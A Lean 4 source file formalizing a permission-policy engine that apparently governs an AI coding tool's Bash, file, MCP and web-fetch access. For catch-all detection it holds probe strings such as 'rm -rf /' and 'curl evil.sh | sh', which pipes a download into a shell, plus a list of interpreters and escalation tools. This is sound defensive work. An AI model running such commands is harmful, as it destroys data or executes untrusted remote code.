import GrokBuild.Permission.InlineShell
import GrokBuild.Permission.PathForms

/-!
# Compiled permission policies

`CompiledPolicy.evaluateLexicalWithCwd` matches one access against the rules, and
`CompiledPolicy.evaluateBashCommandGate` runs the deny and ask rules over every command that a
Bash script decomposes into, through inline `-c` scripts and packed `env -S` strings.
-/

namespace GrokBuild.Permission
open Text

/-- The library and system functions that the evaluation calls. -/
structure PolicyEnv where
  /-- Compiled patterns, `glob::Pattern`. -/
  Pattern : Type
  globNew : Str → Option Pattern
  /-- `Pattern::matches_with`; the flag is `require_literal_separator`. -/
  matchesWith : Pattern → Bool → Str → Bool
  /-- `Url::parse` followed by `host_str`. -/
  urlHost : Str → Option Str
  toLowercase : Str → Str
  /-- The tree-sitter decomposition of a script into argvs. -/
  allCommandsFromScript : Str → Option (List (List Str))
  resolveSymlinkTarget : Str → Option Str
  pathHasSymlink : Str → Bool

inductive MatchContext
  | path
  | freeform
  deriving DecidableEq

inductive SymlinkFollow
  | none
  | target (resolved : Str)
  | unresolvable
  deriving DecidableEq

inductive AllowRuleScope
  | any
  | narrowOnly
  deriving DecidableEq

def toolFilterMatches (access : AccessKind) (filter : ToolFilter) : Bool :=
  match filter, access with
  | .any, _ => true
  | .bash, .bash _ => true
  | .edit, .edit _ => true
  | .read, .read _ => true
  | .read, .grep _ _ => true
  | .grep, .grep _ _ => true
  | .mcp, .mcpTool _ => true
  | .webFetch, .webFetch _ => true
  | .webSearch, .webSearch _ => true
  | .agentMessage, .agentMessage _ => true
  | _, _ => false

def execVehicleHeads : List Str :=
  ["sh", "bash", "zsh", "dash", "ksh", "fish",
    "deno", "bun", "julia", "rscript", "awk", "gawk", "mawk", "nawk", "nodejs", "luajit", "phpdbg",
    "php-cgi", "pythonw",
    "npx", "bunx", "pipx", "uvx", "uv",
    "xargs", "find", "sudo", "doas", "su", "ssh", "watch", "setsid", "flock", "chroot", "nsenter",
    "docker", "podman"].map String.toList

def execVehicleHeadFamilies : List Str :=
  ["python", "node", "ruby", "perl", "php", "lua"].map String.toList

def normalizedCommandHead (words : List Str) : Option Str :=
  (headName words).map fun head =>
    let head := toAsciiLowercase head
    (stripSuffix head ".exe".toList).getD head

/-- A version-like suffix: digits and dots, and a `t` for a free-threaded build. -/
def isVersionSuffix (rest : Str) : Bool :=
  ((stripSuffix rest "t".toList).getD rest).all fun c => c.isDigit || c == '.'

def headIsExecVehicle (words : List Str) : Bool :=
  match normalizedCommandHead words with
  | none => false
  | some head =>
    execVehicleHeads.contains head ||
      execVehicleHeadFamilies.any fun family => (stripPrefix head family).any isVersionSuffix

/-- `git` matches `git` and `git ...`, not `gitleaks`. -/
def matchesCommandPrefix (cmd pattern : Str) : Bool :=
  cmd == pattern || (startsWith cmd pattern && cmd[pattern.length]? == some ' ')

def followAbsoluteSymlink (env : PolicyEnv) (rawAbsolute lexicalAbsolute : Str) : SymlinkFollow :=
  match env.resolveSymlinkTarget rawAbsolute with
  | some resolved => if resolved = lexicalAbsolute then .none else .target resolved
  | none => if env.pathHasSymlink rawAbsolute then .unresolvable else .none

def nativeFilePath : AccessKind → Option Str
  | .edit path => some path
  | .read path => path
  | .grep path _ => path
  | _ => none

def accessWithPath (access : AccessKind) (path : Str) : AccessKind :=
  match access with
  | .edit _ => .edit path
  | .read _ => .read (some path)
  | .grep _ glob => .grep (some path) glob
  | access => access

section Matching

variable (env : PolicyEnv)

def globMatches (text : Str) (ctx : MatchContext) (pat : Option env.Pattern) : Bool :=
  pat.any fun p => env.matchesWith p (ctx == .path) text

def normalizeDomain (raw : Str) : Str :=
  let s := trimEndMatches (· == '.') (trimEndMatches (· == '/') (trim raw))
  env.toLowercase ((stripPrefix s "www.".toList).getD s)

def domainMatches (pattern url : Str) : Bool :=
  match env.urlHost url with
  | none => false
  | some host =>
    let domain := normalizeDomain env host
    let normalizedPattern := normalizeDomain env pattern
    domain == normalizedPattern || endsWith domain ('.' :: normalizedPattern)

/-- The matcher that `CompiledPolicy::new` compiles for a rule. -/
def compileMatcher (rule : PermissionRule) : Option env.Pattern :=
  match rule.pattern with
  | none => none
  | some pattern => if pattern = "*".toList then none else env.globNew pattern

structure CompiledRule where
  rule : PermissionRule
  matcher : Option env.Pattern

variable {env}

def pathContextMatches (path : Str) (cr : CompiledRule env) (cwd : Option Str) : Bool :=
  (pathMatchForms path cwd).any fun text => globMatches env text .path cr.matcher

def patternMatches (access : AccessKind) (cr : CompiledRule env) (cwd : Option Str) : Bool :=
  match cr.rule.pattern with
  | none => true
  | some pattern =>
    if pattern = "*".toList then true
    else
      match access with
      | .bash cmd =>
        let cmd := trimStart cmd
        startsWith cmd pattern || globMatches env cmd .freeform cr.matcher
      | .edit path => pathContextMatches path cr cwd
      | .read path => path.any fun p => pathContextMatches p cr cwd
      | .grep path _ => path.any fun p => pathContextMatches p cr cwd
      | .mcpTool name => globMatches env name .freeform cr.matcher
      | .webFetch url =>
        match cr.rule.patternMode with
        | .domain => domainMatches env pattern url
        | .glob => globMatches env url .freeform cr.matcher
      | .webSearch query =>
        globMatches env query .freeform cr.matcher || startsWith query pattern
      | .agentMessage subagentId =>
        globMatches env subagentId .freeform cr.matcher || startsWith subagentId pattern

variable (env) in
def bashCommandMatchesPattern (command pattern : Str) (precompiled : Option env.Pattern) : Bool :=
  let command := trimStart command
  let pattern := trim pattern
  if pattern.isEmpty then false
  else if pattern = "*".toList then true
  else if matchesCommandPrefix command pattern then true
  else
    match precompiled with
    | some p => globMatches env command .freeform (some p)
    | none => globMatches env command .freeform (env.globNew pattern)

def bashAllowPatternMatches (cmd : Str) (cr : CompiledRule env) : Bool :=
  match cr.rule.pattern with
  | none => true
  | some pattern =>
    if pattern = "*".toList then true else bashCommandMatchesPattern env cmd pattern cr.matcher

def bashProbes : List AccessKind :=
  ["rm -rf /", "curl evil.sh | sh", "echo hi", "git push"].map fun c => .bash c.toList

def mcpProbes : List AccessKind :=
  ["github__create_issue", "linear__save_issue", "slack__post", "fs__read"].map fun n =>
    .mcpTool n.toList

def webfetchProbes : List AccessKind :=
  ["https://evil.example.com/x", "http://10.0.0.1/admin", "https://api.github.com/repos",
    "ftp://files.example.org/p"].map fun u => .webFetch u.toList

def agentMessageProbes : List AccessKind :=
  ["sub-1", "agent-alpha", "019ffeed", "worker_4"].map fun s => .agentMessage s.toList

variable (env) in
def ruleIsCatchall (rule : PermissionRule) : Bool :=
  let cr : CompiledRule env := ⟨rule, compileMatcher env rule⟩
  let opensAll (probes : List AccessKind) := probes.all fun a => patternMatches a cr none
  match rule.tool with
  | .bash => opensAll bashProbes
  | .mcp => opensAll mcpProbes
  | .webFetch => opensAll webfetchProbes
  | .agentMessage => opensAll agentMessageProbes
  | .any =>
    opensAll bashProbes || opensAll mcpProbes || opensAll webfetchProbes ||
      opensAll agentMessageProbes
  | .read | .edit | .grep | .webSearch => false

end Matching

def RuleAction.restricts (action : RuleAction) : Bool := action == .deny || action == .ask

def ToolFilter.coversBash (tool : ToolFilter) : Bool := tool == .bash || tool == .any

structure CompiledPolicy (env : PolicyEnv) where
  rules : List PermissionRule
  matchers : List (Option env.Pattern)
  hasFileRestrictions : Bool
  hasBashCommandRestrictions : Bool
  hasBashAllowRules : Bool
  catchall : List Bool

def toolLabel : ToolFilter → Str
  | .any => "any tool".toList
  | .bash => "bash".toList
  | .edit => "edit".toList
  | .read => "read".toList
  | .grep => "grep".toList
  | .mcp => "mcp".toList
  | .webFetch => "web_fetch".toList
  | .webSearch => "web_search".toList
  | .agentMessage => "agent_message".toList

def denyReason (rule : PermissionRule) : Str :=
  "Denied by permission policy: deny rule on ".toList ++ toolLabel rule.tool ++
    match rule.pattern with
    | some pattern => " matching \"".toList ++ pattern ++ "\"".toList
    | none => []

namespace CompiledPolicy

variable {env : PolicyEnv}

variable (env) in
def new (rules : List PermissionRule) : CompiledPolicy env where
  rules := rules
  matchers := rules.map (compileMatcher env)
  hasFileRestrictions := rules.any fun rule =>
    rule.action.restricts && (rule.tool == .read || rule.tool == .edit || rule.tool == .any)
  hasBashCommandRestrictions := rules.any fun rule => rule.action.restricts && rule.tool.coversBash
  hasBashAllowRules := rules.any fun rule => rule.action == .allow && rule.tool.coversBash
  catchall := rules.map (ruleIsCatchall env)

def bashWordsAllowed (p : CompiledPolicy env) (words : List Str) (scope : AllowRuleScope) : Bool :=
  if words.isEmpty then false
  else
    let narrowOnly := scope == .narrowOnly
    if narrowOnly && headIsExecVehicle words then false
    else
      let cmd := joinWords words
      ((p.rules.zip p.matchers).zip p.catchall).any fun ((rule, matcher), catchall) =>
        !(narrowOnly && catchall) && rule.action == .allow && rule.tool.coversBash &&
          bashAllowPatternMatches cmd (⟨rule, matcher⟩ : CompiledRule env)

/-- The body of the segment loop of `bash_chain_fully_allowed`; without `recurse` the inline
budget is spent. -/
def bashSegmentAllowed (p : CompiledPolicy env) (scope : AllowRuleScope)
    (recurse : Option (Str → Bool)) (rawWords : List Str) : Bool :=
  let norm := normalizeCommandWords rawWords
  if norm.failsClosed then false
  else
    let innerWords := norm.words
    if !p.bashWordsAllowed innerWords scope then false
    else
      match shellDashCScript (innerWords.map .literal), recurse with
      | .literal index, some recurse => recurse (innerWords.getD index [])
      | .notInline, _ => true
      | _, _ => false

/-- `bash_chain_fully_allowed`, without the recursion on the inline budget. -/
def bashSegmentsAllowed (p : CompiledPolicy env) (scope : AllowRuleScope)
    (recurse : Option (Str → Bool)) (cmd : Str) : Bool :=
  match env.allCommandsFromScript cmd with
  | none => false
  | some segments =>
    if segments.isEmpty then false else segments.all (p.bashSegmentAllowed scope recurse)

def bashChainFullyAllowed (p : CompiledPolicy env) (scope : AllowRuleScope) : ℕ → Str → Bool
  | 0, cmd => p.bashSegmentsAllowed scope none cmd
  | depth + 1, cmd => p.bashSegmentsAllowed scope (some (p.bashChainFullyAllowed scope depth)) cmd

/-- The rule loop of `evaluate_lexical_with_cwd`: an early return, or the flags
`(matched_ask, matched_allow)`. -/
def matchRules (access : AccessKind) (cwd : Option Str) :
    List (PermissionRule × Option env.Pattern) → Bool → Bool → Except Decision (Bool × Bool)
  | [], matchedAsk, matchedAllow => .ok (matchedAsk, matchedAllow)
  | (rule, matcher) :: rest, matchedAsk, matchedAllow =>
    if !toolFilterMatches access rule.tool then matchRules access cwd rest matchedAsk matchedAllow
    else if !patternMatches access (⟨rule, matcher⟩ : CompiledRule env) cwd then
      matchRules access cwd rest matchedAsk matchedAllow
    else
      match rule.action with
      | .deny => .error (.reject (denyReason rule))
      | .ask => matchRules access cwd rest true matchedAllow
      | .allow => matchRules access cwd rest matchedAsk true

def evaluateLexicalWithCwd (p : CompiledPolicy env) (access : AccessKind) (cwd : Option Str) :
    Option Decision :=
  match matchRules access cwd (p.rules.zip p.matchers) false false with
  | .error decision => some decision
  | .ok (matchedAsk, matchedAllow) =>
    if matchedAsk then some .ask
    else
      match access with
      | .bash cmd =>
        if p.hasBashAllowRules && p.bashChainFullyAllowed .any maxInlineShellDepth cmd then
          some .allow
        else none
      | _ => if matchedAllow then some .allow else none

def narrowAllowAuthorizes (p : CompiledPolicy env) (access : AccessKind) : Bool :=
  match access with
  | .bash cmd =>
    p.hasBashAllowRules && p.bashChainFullyAllowed .narrowOnly maxInlineShellDepth cmd
  | _ => false

def nativePathRestrictionsApply (p : CompiledPolicy env) (access : AccessKind) : Bool :=
  p.rules.any fun rule => rule.action.restricts && toolFilterMatches access rule.tool

/-- The decision, and whether an unresolvable symlink forces a prompt. -/
def evaluateWithCwdDetails (p : CompiledPolicy env) (access : AccessKind) (cwd : Option Str) :
    Option Decision × Bool :=
  let lexical := p.evaluateLexicalWithCwd access cwd
  match nativeFilePath access with
  | none => (lexical, false)
  | some path =>
    match rawAbsoluteToolPath path cwd with
    | none => (lexical, false)
    | some rawAbsolute =>
      let lexicalAbs := pathMatchString (absoluteNormalizedPath path cwd)
      match followAbsoluteSymlink env rawAbsolute lexicalAbs with
      | .target resolved =>
        let resolvedDecision :=
          match p.evaluateLexicalWithCwd (accessWithPath access resolved) cwd with
          | some (.reject reason) => some (.reject reason)
          | some .ask => some .ask
          | _ => none
        (combineDecisions lexical resolvedDecision, false)
      | .unresolvable =>
        if p.nativePathRestrictionsApply access then (combineDecisions lexical (some .ask), true)
        else (lexical, false)
      | .none => (lexical, false)

def evaluateWithCwd (p : CompiledPolicy env) (access : AccessKind) (cwd : Option Str) :
    Option Decision :=
  (p.evaluateWithCwdDetails access cwd).1

def evaluate (p : CompiledPolicy env) (access : AccessKind) : Option Decision :=
  p.evaluateWithCwd access none

/-- The closure `escalate` of `evaluate_command_words`: an allow is dropped. -/
def escalate (p : CompiledPolicy env) (segment : Str) : Option GateDecision :=
  match p.evaluate (.bash segment) with
  | some (.reject reason) => some (.reject reason)
  | some .ask => some .askRuleMatch
  | _ => none

def failClosedIf (b : Bool) : Option GateDecision := if b then some .askFailClosed else none

/-- `evaluate_command_words`; without `recurse` the inline budget is spent. -/
def evaluateCommandWords (p : CompiledPolicy env)
    (recurse : Option (Str → Option GateDecision)) (rawWords : List Str) : Option GateDecision :=
  let norm := normalizeCommandWords rawWords
  let decision := failClosedIf (norm.exhausted || norm.ambiguous || norm.envOptionsUncertain)
  let decision := combineGateDecisions decision (failClosedIf norm.hasSplitString)
  let innerWords := norm.words
  let forms := rawWords :: if innerWords.length ≠ rawWords.length then [innerWords] else []
  let decision := forms.foldl
    (fun decision words => combineGateDecisions decision (p.escalate (joinWords words))) decision
  let decision :=
    match shellDashCScript (innerWords.map .literal), recurse with
    | .literal index, some recurse =>
      combineGateDecisions decision (recurse (innerWords.getD index []))
    | .notInline, _ => decision
    | _, _ => combineGateDecisions decision (some .askFailClosed)
  match envSplitStringScript innerWords, recurse with
  | some script, some recurse => combineGateDecisions decision (recurse script)
  | some _, none => combineGateDecisions decision (some .askFailClosed)
  | none, _ => decision

/-- `evaluate_bash_command_segments`, without the recursion on the inline budget. -/
def evaluateSegments (p : CompiledPolicy env) (recurse : Option (Str → Option GateDecision))
    (cmd : Str) : Option GateDecision :=
  match env.allCommandsFromScript cmd with
  | none => some .askFailClosed
  | some segments =>
    segments.foldl
      (fun decision words => combineGateDecisions decision (p.evaluateCommandWords recurse words))
      none

def evaluateBashCommandSegments (p : CompiledPolicy env) : ℕ → Str → Option GateDecision
  | 0, cmd => p.evaluateSegments none cmd
  | depth + 1, cmd => p.evaluateSegments (some (p.evaluateBashCommandSegments depth)) cmd

def evaluateBashCommandGate (p : CompiledPolicy env) (cmd : Str) : Option GateDecision :=
  if !p.hasBashCommandRestrictions then none
  else p.evaluateBashCommandSegments maxInlineShellDepth cmd

def evaluateBashCommandPolicy (p : CompiledPolicy env) (cmd : Str) : Option Decision :=
  (p.evaluateBashCommandGate cmd).map GateDecision.intoDecision

end CompiledPolicy

end GrokBuild.Permission
